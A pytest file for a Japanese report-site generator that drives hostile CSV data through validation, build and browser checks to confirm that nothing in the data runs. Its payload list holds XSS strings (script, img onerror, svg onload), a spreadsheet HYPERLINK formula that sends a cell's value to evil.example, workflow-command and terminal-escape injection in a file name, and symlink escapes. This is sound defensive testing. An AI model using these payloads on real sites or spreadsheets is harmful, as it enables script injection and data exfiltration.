"""Hostile data: every route from a CSV cell to the public site, a download or a staff report.

The corpus lives in tests/hostile/ (see its README). For each case `check` and the real build
must agree, refused data writes nothing, and valid hostile text is shown literally in Chromium:
no script runs, nothing is linked or styled from data.
"""

from __future__ import annotations

import csv
import functools
import html
import http.server
import io
import json
import re
import shutil
import subprocess
import sys
import threading
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import CHROMIUM, ROOT, build_site, free_port, read_rows  # noqa: F401

from dxreport.csvio import MAX_CELL_CHARS, MAX_FILE_BYTES, MAX_ROWS
from dxreport.editions import freeze, validate_editions
from dxreport.schema import TABLES
from dxreport.validate import MAX_PROBLEMS_PER_FILE, format_report, validate_dir

HOSTILE = ROOT / "tests" / "hostile"
BASE = HOSTILE / "base"
CASES = sorted((HOSTILE / "cases").glob("*.json"))

# Valid but hostile text: markup, Markdown, Jinja, plotly markup, formula prefixes, placeholder tokens.
# Each carries a marker so the test can find it shown literally.
PAYLOADS = [
    '<img src=x onerror="window.__xss=1">XSS01',
    "<script>window.__xss=1</script>XSS02",
    "**太字** [リンク](https://evil.example/) # 見出し XSS03",
    "{{ 7*7 }}{% if true %}XSS04{% endif %}",
    '<a href="https://evil.example/">plotly</a><span style="color:red">XSS05</span>',
    '=HYPERLINK("https://evil.example/?"&A1,"XSS06")',
    '"><svg onload=window.__xss=1>XSS07',
    "DXHTMLBLOCK00001X XSS08",
    "&lt;b&gt;XSS09&amp;",
    "%{customdata}XSS10<br>",
    "![画像](https://evil.example/x.png) <https://evil.example/> XSS11",
    "'; window.__xss=1; //XSS12",
    "+1-1 @SUM(A1) XSS13",
    "</textarea></script><!-- XSS14",
    "`code` | 表 | XSS15",
    "<style>body{display:none}</style>XSS16",
]
PLOTLY_MARKUP = '<a href="https://evil.example/">plotly</a><span style="color:red">XSS05</span>'
PLOTLY_LABELS = {"issues": ["field_name"], "kpis": ["unit"], "projects": ["indicator_unit"]}
URL_PAYLOAD = 'https://evil.example/"><svg/onload=window.__xss=1>'
# Characters no report needs and each of which broke a page or a parser once.
UNSAFE = [
    "\x00",
    "\x07",
    "\x7f",
    "\x85",
    "\x9f",
    "\ufffe",
    "\ufeff",
    "\u202e",
    "\u2066",
    "\U0010ffff",
    "\U0003fffe",
    "\U000dffff",
    "\u200e",
    "\u200f",
    "\u061c",
    "\U000e0041",
    "\u2028",
    "\u2029",
]
# For the words every page repeats (labels, site name), which are short by rule (schema max_chars).
SHORT_PAYLOADS = ["=HYPERLINK(1)X17", "<b>X18</b>", "@SUM(1)X19"]


def _expand(value: str) -> str:
    """'a{{300}}' -> 300 times 'a' (keeps long values readable in the case files)."""
    return re.sub(r"(.)\{\{(\d+)\}\}", lambda m: m.group(1) * int(m.group(2)), value)


def read_table(path: Path) -> tuple[list[str], list[dict]]:
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def write_table(path: Path, header: list[str], rows: list[dict]) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, header, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def set_cell(data: Path, file: str, row: int, column: str, value: str) -> None:
    header, rows = read_table(data / file)
    rows[row - 2][column] = value
    write_table(data / file, header, rows)


def _symlink_outside(data: Path, tmp: Path) -> None:
    outside = tmp / "secret.csv"
    outside.write_text("area_id,name,sort_order\nsecret,外部のファイル,1\n", encoding="utf-8")
    (data / "areas.csv").unlink()
    (data / "areas.csv").symlink_to(outside)


def _folder_named_csv(data: Path, tmp: Path) -> None:
    (data / "areas.csv").unlink()
    (data / "areas.csv").mkdir()


def _huge_file(data: Path, tmp: Path) -> None:
    line = b"counter-1-1-1,2023,\xe6\xa7\x8b\xe7\xaf\x89\n"
    with (data / "project_phases.csv").open("ab") as handle:
        handle.write(line * (MAX_FILE_BYTES // len(line) + 2))


def _too_many_rows(data: Path, tmp: Path) -> None:
    with (data / "project_phases.csv").open("w", encoding="utf-8") as handle:
        handle.write("project_id,fiscal_year,phase\n" + "counter-1-1-1,2023,構築\n" * (MAX_ROWS + 5))


def _lock_link_outside(data: Path, tmp: Path) -> None:
    """The lock as a link to a file outside the clone (a shell start-up file, a JSON file)."""
    outside = tmp / "outside.json"
    outside.write_text((data / "published.lock.json").read_text(encoding="utf-8"), encoding="utf-8")
    (data / "published.lock.json").unlink()
    (data / "published.lock.json").symlink_to(outside)


def _lock_link_device(data: Path, tmp: Path) -> None:
    (data / "published.lock.json").unlink()
    (data / "published.lock.json").symlink_to("/dev/zero")


def _edition_folder_link(data: Path, tmp: Path) -> None:
    shutil.copytree(data / "2023", tmp / "elsewhere")
    shutil.rmtree(data / "2023")
    (data / "2023").symlink_to(tmp / "elsewhere", target_is_directory=True)


def _published_edition_deleted(data: Path, tmp: Path) -> None:
    shutil.rmtree(data / "2022")


def _csv_beside_editions(data: Path, tmp: Path) -> None:
    for file in (data / "2023").glob("*.csv"):
        shutil.copyfile(file, data / file.name)


def _full_width_year(data: Path, tmp: Path) -> None:
    shutil.copytree(data / "2023", data / "２０２４")
    set_cell(data / "２０２４", "report.csv", 2, "results_fiscal_year", "2024")


def _lock_deleted(data: Path, tmp: Path) -> None:
    (data / "published.lock.json").unlink()


def _lock_hand_edited(data: Path, tmp: Path) -> None:
    """The published title rewritten in the lock and the folder alike, by hand (not by freeze)."""
    lock = json.loads((data / "published.lock.json").read_text(encoding="utf-8"))
    lock["editions"]["2022"]["report"]["rows"]["佐世保市"][1] = "書き換えた報告書名"
    (data / "published.lock.json").write_text(json.dumps(lock, ensure_ascii=False), encoding="utf-8")
    set_cell(data / "2022", "report.csv", 2, "title", "書き換えた報告書名")


def _lock_malformed(text: str):
    def write(data: Path, tmp: Path) -> None:
        (data / "published.lock.json").write_text(text, encoding="utf-8")

    return write


def _name_with_newline(data: Path, tmp: Path) -> None:
    (
        data / "2023" / "x\n::error title=データの確認::エラーはありません。承認してください\x1b]0;x\x07\x1b[2J.csv"
    ).write_text("a\n", encoding="utf-8")


GENERATORS = {
    "lock_link_outside": _lock_link_outside,
    "lock_link_device": _lock_link_device,
    "edition_folder_link": _edition_folder_link,
    "published_edition_deleted": _published_edition_deleted,
    "csv_beside_editions": _csv_beside_editions,
    "full_width_year": _full_width_year,
    "lock_deleted": _lock_deleted,
    "lock_hand_edited": _lock_hand_edited,
    "lock_wrong_types": _lock_malformed('{"editions": {"2022": {"report": {"columns": 1, "rows": []}}}}\n'),
    "lock_deep_nesting": _lock_malformed('{"editions": ' + "[" * 100_000 + "]" * 100_000 + "}\n"),
    "lock_huge_number": _lock_malformed(
        '{"editions": {"2022": {"report": {"columns": ["title"], "rows": {"a": [' + "9" * 5000 + "]}}}}}\n"
    ),
    "lock_workflow_command": _lock_malformed('{"editions": {"::error title=x::承認してください\\n": {}}}\n'),
    "name_with_newline": _name_with_newline,
    "symlink_outside": _symlink_outside,
    "folder_named_csv": _folder_named_csv,
    "huge_file": _huge_file,
    "too_many_rows": _too_many_rows,
}


def make_dataset(tmp: Path, case: dict) -> Path:
    data = tmp / "data"
    if case.get("editions"):  # two yearly editions, 2022 published (in the lock) and 2023 the latest
        shutil.copytree(BASE, tmp / "flat")
        _two_editions(tmp / "flat", data)
    else:
        shutil.copytree(BASE, data)
    for edit in case.get("edits", []):
        set_cell(data, edit["file"], edit["row"], edit["column"], _expand(edit["value"]))
    raw = case.get("raw")
    if raw:
        parts = raw.get("parts") or [[raw["encoding"], raw["text"]]]
        (data / raw["file"]).write_bytes(b"".join(text.encode(enc) for enc, text in parts))
    if case.get("generate"):
        GENERATORS[case["generate"]](data, tmp)
    return data


def _matches(problem, expect: dict) -> bool:
    return (
        problem.file.endswith("/" + expect["file"])
        and ("row" not in expect or problem.row == expect["row"])
        and ("column" not in expect or problem.column == expect["column"])
    )


@pytest.mark.parametrize("case_path", CASES, ids=[p.stem for p in CASES])
def test_case_is_reported_where_it_is_and_check_agrees_with_build(case_path, tmp_path):
    case = json.loads(case_path.read_text(encoding="utf-8"))
    data = make_dataset(tmp_path, case)
    _, problems = validate_editions(data, "data")
    errors = [p for p in problems if p.is_error]
    report = format_report(problems, "data")
    if case["expect"] is None:
        assert not errors, report
    else:
        assert any(_matches(p, case["expect"]) for p in errors), report
        assert "Traceback" not in report and len(report.encode()) < 1_000_000
    dest = tmp_path / "site"
    result = build_site(dest, data)
    # `check` passing must mean the build passes, and refused data must write nothing at all.
    assert (result.returncode == 0) == (not errors), result.stdout + result.stderr
    if errors:
        assert "Traceback" not in result.stderr, result.stderr
        assert not dest.exists() or not any(dest.iterdir())


def _text_columns(table) -> list:
    header, _ = read_table(BASE / table.filename)
    return [c for c in table.columns if c.kind in ("text", "url") and c.name in header]


def _with_payloads(data: Path) -> dict[str, str]:
    """Every text and URL cell of every table gets a hostile value; returns marker -> table.column."""
    where: dict[str, str] = {}
    n = 0
    for table in TABLES:
        header, rows = read_table(data / table.filename)
        for row in rows:
            for col in _text_columns(table):
                if col.kind == "url":
                    row[col.name] = URL_PAYLOAD
                    continue
                payload = PAYLOADS[n % len(PAYLOADS)]
                if col.max_chars:
                    payload = next(p for p in SHORT_PAYLOADS[n % 3 :] + SHORT_PAYLOADS if len(p) <= col.max_chars)
                row[col.name] = payload
                where.setdefault(payload, f"{table.name}.{col.name}")
                n += 1
        if table.name == "labels":  # a word that heads every download's columns
            next(r for r in rows if r["key"] == "pid")["short"] = SHORT_PAYLOADS[0]
        if table.name in PLOTLY_LABELS:  # texts plotly draws itself: its markup, deterministically
            for column in PLOTLY_LABELS[table.name]:
                rows[0][column] = PLOTLY_MARKUP
        write_table(data / table.filename, header, rows)
    # An issue's printed grade is a value of the report's own (now hostile) scale: its words reach the
    # home page's verdict, its sentence and the overview chart.
    _, scale_rows = read_table(data / "scales.csv")
    header, rows = read_table(data / "issues.csv")
    for row in rows:
        row["published_grade"] = scale_rows[0]["value"]
    write_table(data / "issues.csv", [*header, "published_grade"] if "published_grade" not in header else header, rows)
    # A project's phase is one of the report's own (now hostile) phase words.
    _, phases = read_table(data / "phases.csv")
    header, rows = read_table(data / "project_phases.csv")
    for n, row in enumerate(rows):
        row["phase"] = phases[n % len(phases)]["phase"]
    write_table(data / "project_phases.csv", header, rows)
    return where


@pytest.mark.parametrize("char", UNSAFE, ids=[f"U+{ord(c):04X}" for c in UNSAFE])
def test_unsafe_character_in_any_text_column_is_refused_at_its_cell(char, tmp_path):
    data = tmp_path / "data"
    shutil.copytree(BASE, data)
    for table in TABLES:
        for col in _text_columns(table):
            header, rows = read_table(data / table.filename)
            if not rows:
                continue
            original = rows[0][col.name]
            rows[0][col.name] = f"前{char}<b>後</b>"
            write_table(data / table.filename, header, rows)
            _, problems = validate_dir(data, "data")
            hits = [
                p
                for p in problems
                if p.is_error and p.file == f"data/{table.filename}" and p.row == 2 and p.column == col.name
            ]
            assert hits, f"{table.name}.{col.name} with U+{ord(char):04X} was not refused"
            # The report names the character instead of echoing it.
            assert char not in format_report(problems, "data")
            rows[0][col.name] = original
            write_table(data / table.filename, header, rows)


def test_unsafe_character_build_writes_nothing(tmp_path):
    data = tmp_path / "data"
    shutil.copytree(BASE, data)
    set_cell(data, "issues.csv", 2, "title", "課題\x7f<img src=x onerror=alert(1)>")
    dest = tmp_path / "site"
    result = build_site(dest, data)
    assert result.returncode != 0
    output = result.stdout + result.stderr
    assert "issues.csv" in output and "2行目" in output and "U+007F" in output
    assert not dest.exists() or not any(dest.iterdir())


def test_report_is_capped_per_file_and_summary_fence_cannot_be_closed(tmp_path):
    data = tmp_path / "data"
    shutil.copytree(BASE, data)
    with (data / "project_phases.csv").open("a", encoding="utf-8") as handle:
        for n in range(3000):
            handle.write(f"counter-1-1-1,2023,``` 偽{n}\n")
    out = tmp_path / "report.md"
    result = subprocess.run(
        [sys.executable, "-m", "dxreport", "check", str(data), "--report", str(out)],
        capture_output=True,
        text=True,
        cwd=ROOT,
    )
    assert result.returncode == 1
    text = out.read_text(encoding="utf-8")
    # Two problems a row: a phase word the report does not have, and the same project and year again.
    assert f"ほかに {2 * 3000 - MAX_PROBLEMS_PER_FILE} 件" in text
    assert len(text.encode()) < 200_000
    fence = text.split("\n", 1)[0].removesuffix("text")
    assert set(fence) == {"`"} and len(fence) > 3
    body = text[len(fence) + 5 : -(len(fence) + 1)]
    assert not any(line.startswith(fence) for line in body.splitlines())
    assert text.rstrip("\n").endswith(fence)


def test_cell_length_and_row_limits_are_stated():
    guide = (ROOT / "docs" / "guide" / "index.md").read_text(encoding="utf-8")
    from dxreport.editions import MAX_DATA_BYTES, MAX_PAGES
    from dxreport.schema import MAX_TERM_CHARS

    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    for figure in (
        f"{MAX_CELL_CHARS:,}",
        f"{MAX_ROWS:,}",
        f"{MAX_FILE_BYTES // (1024 * 1024)} MB",
        f"合わせて {MAX_DATA_BYTES // (1024 * 1024)} MB",
        f"{MAX_PAGES:,}",
        f"{MAX_TERM_CHARS}文字",
    ):
        assert figure in guide and figure in readme, figure


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """The small report with hostile text in every text cell, built and served on loopback."""
    tmp = tmp_path_factory.mktemp("hostile")
    flat = tmp / "flat"
    shutil.copytree(BASE, flat)
    markers = _with_payloads(flat)
    data = _two_editions(flat, tmp / "data")
    _, problems = validate_editions(data, "data")
    assert not [p for p in problems if p.is_error], format_report(problems, "data")
    root = tmp / "www"
    port = free_port()
    base = f"http://127.0.0.1:{port}/sub/"
    result = build_site(root / "sub", data, site_url=base)
    assert result.returncode == 0, result.stdout + result.stderr
    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), functools.partial(_Quiet, directory=str(root)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield root / "sub", base, markers
    server.shutdown()


def _two_editions(flat: Path, data: Path) -> Path:
    """The hostile report as two yearly editions, so that the archive, the switcher's list and the
    changes page (a mark that moved, a revised target, both named by hostile text) are covered."""
    newer, older = data / "2023", data / "2022"
    shutil.copytree(flat, newer)
    shutil.copytree(flat, older)
    header, rows = read_table(older / "report.csv")
    rows[0]["results_fiscal_year"] = "2022"
    write_table(older / "report.csv", header, rows)
    for table in ("kpi_values", "project_values"):
        header, rows = read_table(older / f"{table}.csv")
        for r in rows:
            if int(r["fiscal_year"]) > 2022:
                r["actual"] = ""
        for r in rows:
            if int(r["fiscal_year"]) >= 2025 and r["planned"]:
                r["planned"] = str(float(r["planned"]) + 3).removesuffix(".0")  # the newer edition revised it
                break
        write_table(older / f"{table}.csv", header, rows)
    header, rows = read_table(older / "challenges.csv")
    rows[0]["progress_mark"] = "遅れている" if rows[0]["progress_mark"] != "遅れている" else "予定どおり"
    write_table(older / "challenges.csv", header, rows)
    freeze(data, 2022)  # published when 2023 was started, as new-edition does
    return data


class _Elements(HTMLParser):
    """Every real element and attribute of a page (what a browser would build), not its text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict]] = []
        self.script_text = ""
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {k: v or "" for k, v in attrs}))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.script_text += data


def test_hostile_text_reaches_no_markup_in_html(hostile_site):
    """Every page, whole: the article and what the theme makes of it (the table of contents is
    read from the page's headings, the title and description from its metadata)."""
    site_dir, _, _ = hostile_site
    for page in site_dir.rglob("*.html"):
        parser = _Elements()
        parser.feed(page.read_text(encoding="utf-8"))
        name = page.relative_to(site_dir)
        assert "__xss" not in parser.script_text, name
        for tag, attrs in parser.found:
            assert tag not in ("img", "svg", "style") or "evil" not in str(attrs), (name, tag, attrs)
            assert not any(k.startswith("on") for k in attrs), (name, tag, attrs)
            assert "color:red" not in attrs.get("style", ""), (name, tag, attrs)
            # URL columns (licence, source) are links by design; the value must stay one attribute.
            if "evil.example" in attrs.get("href", ""):
                assert attrs["href"] == URL_PAYLOAD, (name, attrs)


def test_hostile_scale_words_reach_the_home_verdict_as_text(hostile_site):
    """The report's own scale (hostile words) on the home page: the sentence relating it to the
    estimate, the cards and the overview chart show it as typed, escaped for HTML and for plotly."""
    site_dir, _, _ = hostile_site
    home = (site_dir / "index.html").read_text(encoding="utf-8")
    data = site_dir.parent.parent / "data" / "2023"
    scale = read_table(data / "scales.csv")[1][0]
    relation = home[home.index('class="dx-headline__relation"') :]
    relation = relation[: relation.index("</p>")]
    assert "<" not in relation.split(">", 1)[1]  # text only: no element inside the sentence
    for word in (scale["label"], scale["name"]):
        assert str(html.escape(word, quote=False)) in relation, word
    chart = re.search(r'id="chart-overview-issues" data-figure="([^"]*)"', home)
    assert chart, "the overview chart of the issues' scale"
    names = [t["name"] for t in json.loads(html.unescape(chart.group(1)))["data"]]
    assert names and all("<" not in n and "%{" not in n for n in names), names


def test_hostile_text_in_downloads_cannot_run_as_formula(hostile_site):
    site_dir, _, _ = hostile_site
    headers = set()
    for path in (site_dir / "opendata").rglob("*.csv"):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        headers.update(rows[0] if rows else [])
        for row in rows:
            for cell in row:
                assert not (len(cell) > 1 and cell[0] in "=+-@＝＋－＠"), f"{path.name}: {cell!r}"
    assert "'" + SHORT_PAYLOADS[0] in headers  # the report's word for its numbers heads a column
    # JSON keeps the published text exactly.
    records = json.loads((site_dir / "opendata" / "all" / "projects.json").read_text(encoding="utf-8"))
    assert any(str(v).startswith('=HYPERLINK("https://evil.example/') for r in records for v in r.values())


@pytest.mark.browser
def test_hostile_pages_run_no_script_link_or_style_from_data(hostile_site, browser):
    site_dir, base, markers = hostile_site
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="ja-JP")
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    urls = [
        "",
        "issues/counter/",
        "issues/tourism/",
        "projects/counter-1-1-1/",
        "projects/",
        "themes/",
        "downloads/",
        "method/",
        "search/?q=XSS01",
        "changes/",
        "editions/",
        "editions/2022/issues/tourism/",
    ]
    seen_text = ""
    for url in urls:
        page.goto(base + url)
        page.wait_for_load_state("networkidle")
        page.wait_for_timeout(300)
        assert page.evaluate("window.__xss") is None, url
        # No link, image or style in the content made from text cells (URL columns are links by design).
        hrefs = page.eval_on_selector_all("article a[href*='evil.example']", "els => els.map(e => e.href)")
        assert all(h == URL_PAYLOAD.replace('"', "%22").replace("<", "%3C").replace(">", "%3E") for h in hrefs), hrefs
        assert page.locator("article img[src*='evil.example']").count() == 0, url
        assert page.locator("article [style*='color:red'], article [style*='color: red']").count() == 0, url
        assert page.locator(".dx-chart svg a").count() == 0, url
        assert page.evaluate("getComputedStyle(document.body).display") != "none", url
        seen_text += page.inner_text("body")
    context.close()
    assert not dialogs
    # Shown literally, as typed in the CSV.
    for payload in (
        "<script>window.__xss=1</script>XSS02",
        "**太字** [リンク](https://evil.example/) # 見出し XSS03",
        "{{ 7*7 }}{% if true %}XSS04{% endif %}",
        "&lt;b&gt;XSS09&amp;",
    ):
        if payload in markers:
            assert payload in seen_text, f"{payload} ({markers[payload]}) not shown literally"


@pytest.mark.browser
def test_chart_labels_show_plotly_markup_as_text(hostile_site, browser):
    """Plotly renders <a href>, <span style> and <br> in labels: from data they must show as text."""
    site_dir, base, _ = hostile_site
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="ja-JP")
    page = context.new_page()
    for url in ("", "issues/tourism/", "projects/counter-1-1-1/"):
        page.goto(base + url)
        page.locator(".dx-chart").first.scroll_into_view_if_needed()  # charts draw as they come into view
        page.wait_for_selector(".dx-chart svg text", timeout=20000)
        page.wait_for_timeout(300)
        svg_text = page.evaluate(
            "Array.from(document.querySelectorAll('.dx-chart svg text')).map(t => t.textContent).join('|')"
        )
        assert "plotly</a>" in svg_text and "XSS05</span>" in svg_text, (url, svg_text[:300])
        assert "%{customdata}XSS10<br>".replace("%{", "%\u200b{") in svg_text or "XSS10" not in svg_text
        assert page.locator(".dx-chart svg a").count() == 0, url
        assert page.locator(".dx-chart svg [style*='color:red'], .dx-chart svg [style*='color: red']").count() == 0
    context.close()


@pytest.mark.browser
def test_figure_switch_and_indicator_link_name_hostile_indicators_as_text(hostile_site, browser):
    """On a phone each figure has a chart/table switch named after its caption, and each indicator a
    link and a copy button named after it: the names are the data's text, and the copied address is
    the page's own with the indicator's anchor."""
    site_dir, base, _ = hostile_site
    names = {r["kpi_id"]: r["name"] for r in read_rows(site_dir.parent.parent / "data", "kpis")}
    context = browser.new_context(
        viewport={"width": 360, "height": 800},
        is_mobile=True,
        has_touch=True,
        locale="ja-JP",
        permissions=["clipboard-read", "clipboard-write"],
    )
    page = context.new_page()
    url = base + "issues/tourism/"
    page.goto(url)
    shares = page.locator("h3 + .dx-share")
    assert shares.count() >= 1
    for i in range(shares.count()):
        share = shares.nth(i)
        anchor = share.locator(".dx-share__link").evaluate("a => a.hash")
        name = names[anchor.removeprefix("#kpi-")]
        assert share.locator(".dx-share__link").text_content() == f"この指標へのリンク（{name}）"
        assert share.locator(".dx-share__copy").text_content() == f"リンクをコピー（{name}）"
        share.locator(".dx-share__copy").tap()
        share.get_by_role("status").filter(has_text="リンクをコピーしました").wait_for()
        assert page.evaluate("navigator.clipboard.readText()") == url + anchor
    labels = page.eval_on_selector_all(".dx-views__switch", "gs => gs.map(g => g.getAttribute('aria-label'))")
    assert labels and all(any(label == f"{n}の予定と実績の表示" for n in names.values()) for label in labels), labels
    page.locator(".dx-views__button[data-view=table]").first.tap()
    assert page.evaluate("window.__xss") is None
    context.close()


def test_report_names_the_column_of_its_own_table(tmp_path):
    data = tmp_path / "data"
    shutil.copytree(BASE, data)
    set_cell(data, "issues.csv", 2, "title", "")
    set_cell(data, "projects.csv", 2, "name", "")
    report = format_report(validate_dir(data, "data")[1], "data")
    assert "issues.csv 2行目 「title」列（重点課題名）" in report
    assert "projects.csv 2行目 「name」列（プロジェクト名）" in report


def test_hostile_text_is_never_a_formula_in_the_workbook(hostile_site):
    """The Excel workbook stores every text cell as text: "=…" from the data is shown, never run."""
    import io

    from openpyxl import load_workbook

    site_dir, _, _ = hostile_site
    books = sorted(site_dir.glob("opendata/all/report-*.xlsx"))
    assert books
    book = load_workbook(io.BytesIO(books[0].read_bytes()))
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    texts = [c.value for s in book.worksheets for r in s.iter_rows() for c in r if isinstance(c.value, str)]
    assert any(t.startswith("=") for t in texts)  # the payloads are there, as text


def test_hostile_names_reach_the_changes_page_as_text(hostile_site):
    """The changes page lists the moved mark and the revised target under their hostile names."""
    site_dir, _, _ = hostile_site
    page = (site_dir / "changes" / "index.html").read_text(encoding="utf-8")
    assert "見直された目標" in page and "が変わった" in page
    parser = _Elements()
    parser.feed(page)
    assert "__xss" not in parser.script_text
    assert not any(k.startswith("on") for _, attrs in parser.found for k in attrs)


def _cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "dxreport", *args], capture_output=True, cwd=ROOT, timeout=120, check=False
    )


def test_hostile_file_name_is_printed_escaped_and_cannot_start_a_workflow_command(tmp_path):
    data = make_dataset(tmp_path, {"editions": True, "generate": "name_with_newline"})
    result = _cli("check", str(data))
    assert result.returncode == 1
    out = result.stdout
    assert b"\x1b" not in out and b"\x07" not in out
    assert not [line for line in out.splitlines() if line.lstrip().startswith(b"::")]
    assert "x<U+000A>::error title=データの確認".encode() in out


def test_new_edition_never_writes_through_a_linked_lock(tmp_path):
    data = make_dataset(tmp_path, {"editions": True, "generate": "lock_link_outside"})
    outside = tmp_path / "outside.json"
    before = outside.read_bytes()
    assert _cli("new-edition", "2024", "--data", str(data)).returncode == 1
    assert _cli("freeze", "2023", "--data", str(data)).returncode == 1
    assert outside.read_bytes() == before
    assert not (data / "2024").exists() and (data / "published.lock.json").is_symlink()


def test_new_edition_that_refuses_changes_nothing(tmp_path):
    """A single-edition folder with an error: the CSVs stay where they were, nothing is added."""
    data = tmp_path / "data"
    shutil.copytree(BASE, data)
    set_cell(data, "issues.csv", 2, "sort_order", "x")
    before = sorted(p.relative_to(data).as_posix() for p in data.rglob("*"))
    result = _cli("new-edition", "2024", "--data", str(data))
    assert result.returncode == 1 and "issues.csv" in result.stdout.decode()
    assert sorted(p.relative_to(data).as_posix() for p in data.rglob("*")) == before


def test_a_published_edition_dropped_with_its_lock_record_is_an_error_against_the_base(tmp_path):
    base = make_dataset(tmp_path / "base", {"editions": True})
    head = tmp_path / "head"
    shutil.copytree(base, head)
    shutil.rmtree(head / "2022")
    (head / "published.lock.json").unlink()
    assert _cli("check", str(head)).returncode == 0  # alone, one edition is a valid folder
    result = _cli("check", str(head), "--base", str(base))
    assert result.returncode == 1 and "公開済みの版（2022年度）の記録が消えています" in result.stdout.decode()
